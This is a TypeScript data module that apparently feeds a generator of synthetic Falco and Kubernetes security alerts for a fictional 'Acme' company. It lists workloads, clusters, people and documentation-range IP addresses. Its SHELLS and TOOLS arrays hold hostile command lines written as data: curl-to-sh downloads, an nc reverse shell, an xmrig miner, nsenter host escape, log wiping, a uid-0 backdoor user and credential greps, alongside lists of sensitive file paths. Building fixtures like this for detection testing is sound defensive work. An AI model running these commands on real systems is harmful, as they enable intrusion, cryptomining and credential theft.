/**
 * Static vocabulary of a plausible fleet (the "Acme" company): images, processes, files, people,
 * addresses. External addresses come from the RFC 5737 documentation ranges so generated alerts
 * never point at a real host.
 */

export interface WorkloadSpec {
  namespace: string;
  name: string;
  kind: 'Deployment' | 'StatefulSet' | 'DaemonSet' | 'CronJob';
  repository: string;
  tag: string;
}

/** `image` is `repository:tag`, as in a pod spec. */
const w = (
  namespace: string,
  name: string,
  kind: WorkloadSpec['kind'],
  image: string,
): WorkloadSpec => {
  const colon = image.lastIndexOf(':');
  return { namespace, name, kind, repository: image.slice(0, colon), tag: image.slice(colon + 1) };
};

export const WORKLOADS: readonly WorkloadSpec[] = [
  w('payments', 'payments-api', 'Deployment', 'ghcr.io/acme/payments-api:2.14.1'),
  w('payments', 'ledger-worker', 'Deployment', 'ghcr.io/acme/ledger-worker:1.9.0'),
  w('checkout', 'checkout-web', 'Deployment', 'ghcr.io/acme/checkout-web:5.2.3'),
  w('checkout', 'redis', 'StatefulSet', 'docker.io/library/redis:7.2.4'),
  w('data', 'postgres', 'StatefulSet', 'docker.io/bitnami/postgresql:15.6.0'),
  w('data', 'kafka', 'StatefulSet', 'docker.io/bitnami/kafka:3.7.0'),
  w('default', 'nginx', 'Deployment', 'docker.io/library/nginx:1.25.4'),
  w(
    'ingress-nginx',
    'ingress-nginx-controller',
    'Deployment',
    'registry.k8s.io/ingress-nginx/controller:v1.10.0',
  ),
  w('kube-system', 'coredns', 'Deployment', 'registry.k8s.io/coredns/coredns:v1.11.1'),
  w('kube-system', 'kube-proxy', 'DaemonSet', 'registry.k8s.io/kube-proxy:v1.29.3'),
  w('monitoring', 'prometheus-k8s', 'StatefulSet', 'quay.io/prometheus/prometheus:v2.51.0'),
  w('monitoring', 'node-exporter', 'DaemonSet', 'quay.io/prometheus/node-exporter:v1.7.0'),
  w('ci', 'jenkins-agent', 'Deployment', 'docker.io/jenkins/inbound-agent:3206.vb_15dcf73f6a_9-3'),
  w('analytics', 'report-export', 'CronJob', 'ghcr.io/acme/report-export:0.8.2'),
];

export interface ClusterSpec {
  name: string;
  /** Whether this cluster's Falco adds `k8s.cluster.name` to every syscall alert. */
  labelsCluster: boolean;
  nodeName: (i: number, id: string) => string;
}

export const CLUSTERS: readonly ClusterSpec[] = [
  {
    name: 'prod-eu-west-1',
    labelsCluster: true,
    nodeName: (i) => `ip-10-0-${10 + i}-${40 + 7 * i}.eu-west-1.compute.internal`,
  },
  {
    name: 'prod-us-central1',
    labelsCluster: true,
    nodeName: (_, id) => `gke-prod-us-central1-default-pool-${id}`,
  },
  { name: 'staging', labelsCluster: false, nodeName: (i) => `staging-worker-${i + 1}` },
];

/** A program as Falco sees it: `proc.name`, `proc.exepath` and plausible arguments. */
export interface ProgramSpec {
  name: string;
  exepath: string;
  args: readonly string[];
}

const p = (name: string, exepath: string, ...args: string[]): ProgramSpec => ({
  name,
  exepath,
  args,
});

export const SHELLS: readonly ProgramSpec[] = [
  p(
    'sh',
    '/bin/sh',
    '',
    '-i',
    '-c "curl -fsSL http://203.0.113.24/i.sh | sh"',
    "-c 'cat /etc/passwd'",
  ),
  p('bash', '/usr/bin/bash', '', '-i', "-c 'id; uname -a; cat /proc/version'"),
  p('ash', '/bin/ash', '', '-c env'),
  p('dash', '/usr/bin/dash', '-c /entrypoint.sh'),
];

export const TOOLS: readonly ProgramSpec[] = [
  p(
    'curl',
    '/usr/bin/curl',
    '-s http://203.0.113.24:8080/payload -o /tmp/.cache/p',
    '-sk https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets',
  ),
  p('wget', '/usr/bin/wget', '-q http://198.51.100.7/xmrig.tar.gz -O /tmp/x.tgz'),
  p('nc', '/usr/bin/nc', '-e /bin/sh 198.51.100.7 4444', '-lvnp 9001'),
  p(
    'python3',
    '/usr/bin/python3',
    '-c \'import pty; pty.spawn("/bin/bash")\'',
    'manage.py migrate',
    '/app/worker.py',
  ),
  p('find', '/usr/bin/find', '/ -perm -4000 -type f', '/ -name id_rsa'),
  p('chmod', '/usr/bin/chmod', '+x /tmp/.x/kworker', '4755 /tmp/sh'),
  p('nsenter', '/usr/bin/nsenter', '-t 1 -m -u -i -n -p -- bash'),
  p('mount', '/usr/bin/mount', '/dev/nvme0n1p1 /mnt/host'),
  p('kubectl', '/usr/local/bin/kubectl', 'get secrets -A', 'auth can-i --list'),
  p('apt-get', '/usr/bin/apt-get', 'install -y nmap', 'update'),
  p('grep', '/usr/bin/grep', '-r aws_access_key_id /home', '-ri password /etc'),
  p('base64', '/usr/bin/base64', '-d'),
  p('xmrig', '/tmp/.x/xmrig', '-o stratum+tcp://198.51.100.50:3333 --donate-level 1'),
  p('rm', '/usr/bin/rm', '-f /root/.bash_history', '-rf /var/log/nginx'),
  p('useradd', '/usr/sbin/useradd', '-o -u 0 support'),
  p('iptables', '/usr/sbin/iptables', '-F'),
  p('insmod', '/usr/sbin/insmod', '/tmp/diamorphine.ko'),
  p('ssh', '/usr/bin/ssh', '-i /tmp/id_rsa deploy@10.0.3.17'),
];

export const READERS: readonly ProgramSpec[] = [
  p('cat', '/usr/bin/cat', '{file}'),
  p('python3', '/usr/bin/python3', '/app/scripts/dump.py {file}'),
  p('node', '/usr/local/bin/node', '/app/dist/server.js'),
  p('less', '/usr/bin/less', '{file}'),
  p('vi', '/usr/bin/vi', '{file}'),
];

export const WRITERS: readonly ProgramSpec[] = [
  p('touch', '/usr/bin/touch', '{file}'),
  p('tee', '/usr/bin/tee', '-a {file}'),
  p('cp', '/usr/bin/cp', '/tmp/.x/payload {file}'),
  p('vi', '/usr/bin/vi', '{file}'),
  p('python3', '/usr/bin/python3', '/tmp/drop.py {file}'),
];

export const NETWORKERS: readonly ProgramSpec[] = [
  TOOLS[0] as ProgramSpec,
  TOOLS[1] as ProgramSpec,
  TOOLS[2] as ProgramSpec,
  p('java', '/opt/java/openjdk/bin/java', '-jar /app/app.jar'),
  p('node', '/usr/local/bin/node', '/app/dist/server.js'),
  TOOLS[12] as ProgramSpec,
];

/** Ancestors between a process and PID 1, nearest first. */
export const CONTAINER_ANCESTORS: readonly (readonly string[])[] = [
  ['runc', 'containerd-shim', 'systemd'],
  ['node', 'containerd-shim', 'systemd'],
  ['java', 'containerd-shim', 'systemd'],
  ['sh', 'python3', 'containerd-shim', 'systemd'],
  ['bash', 'runc', 'containerd-shim', 'systemd'],
  ['tini', 'containerd-shim-runc-v2', 'systemd'],
];
export const HOST_ANCESTORS: readonly (readonly string[])[] = [
  ['bash', 'sshd', 'sshd', 'systemd'],
  ['sudo', 'bash', 'sshd', 'sshd', 'systemd'],
  ['cron', 'systemd'],
  ['kubelet', 'systemd'],
];

export const EXEPATHS: Readonly<Record<string, string>> = {
  runc: '/usr/bin/runc',
  'containerd-shim': '/usr/bin/containerd-shim',
  'containerd-shim-runc-v2': '/usr/bin/containerd-shim-runc-v2',
  systemd: '/usr/lib/systemd/systemd',
  node: '/usr/local/bin/node',
  java: '/opt/java/openjdk/bin/java',
  sh: '/bin/sh',
  bash: '/usr/bin/bash',
  python3: '/usr/bin/python3',
  tini: '/usr/bin/tini',
  sshd: '/usr/sbin/sshd',
  sudo: '/usr/bin/sudo',
  cron: '/usr/sbin/cron',
  kubelet: '/usr/bin/kubelet',
};

export const SENSITIVE_FILES: readonly string[] = [
  '/etc/shadow',
  '/etc/sudoers',
  '/etc/pam.d/common-auth',
  '/root/.ssh/id_rsa',
  '/root/.aws/credentials',
  '/var/run/secrets/kubernetes.io/serviceaccount/token',
  '/etc/kubernetes/admin.conf',
  '/proc/1/environ',
];

export const WRITTEN_FILES: readonly string[] = [
  '/etc/ld.so.preload',
  '/etc/cron.d/update',
  '/root/.ssh/authorized_keys',
  '/usr/local/bin/kubectl',
  '/etc/passwd',
  '/var/log/auth.log',
  '/dev/shm/.x',
  '/tmp/.x/kworker',
  '/bin/ps',
];

export interface Person {
  login: string;
  email: string;
}
export const PEOPLE: readonly Person[] = [
  { login: 'alice', email: 'alice.martin@acme.io' },
  { login: 'bob', email: 'bob.chen@acme.io' },
  { login: 'carol', email: 'carol.okafor@acme.io' },
  { login: 'dmitri', email: 'dmitri.ivanov@acme.io' },
  { login: 'eve', email: 'eve.contractor@gmail.com' },
];

export const K8S_USERS: readonly string[] = [
  'kubernetes-admin',
  'alice.martin@acme.io',
  'bob.chen@acme.io',
  'system:serviceaccount:ci:deployer',
  'system:serviceaccount:argocd:argocd-application-controller',
  'system:serviceaccount:payments:default',
  'system:anonymous',
];

export const EXTERNAL_IPS: readonly string[] = [
  '203.0.113.24',
  '203.0.113.91',
  '198.51.100.7',
  '198.51.100.50',
  '192.0.2.146',
];

export const COUNTRIES: readonly string[] = [
  'France',
  'United States',
  'Germany',
  'Brazil',
  'Nigeria',
  'Vietnam',
];
export const AWS_REGIONS: readonly string[] = [
  'eu-west-1',
  'us-east-1',
  'us-west-2',
  'ap-southeast-1',
];
export const GCP_PROJECTS: readonly string[] = [
  'acme-prod-41235',
  'acme-data-88120',
  'acme-sandbox-10322',
];
export const GITHUB_REPOS: readonly string[] = [
  'payments-api',
  'checkout-web',
  'infra-live',
  'helm-charts',
  'ledger-worker',
];
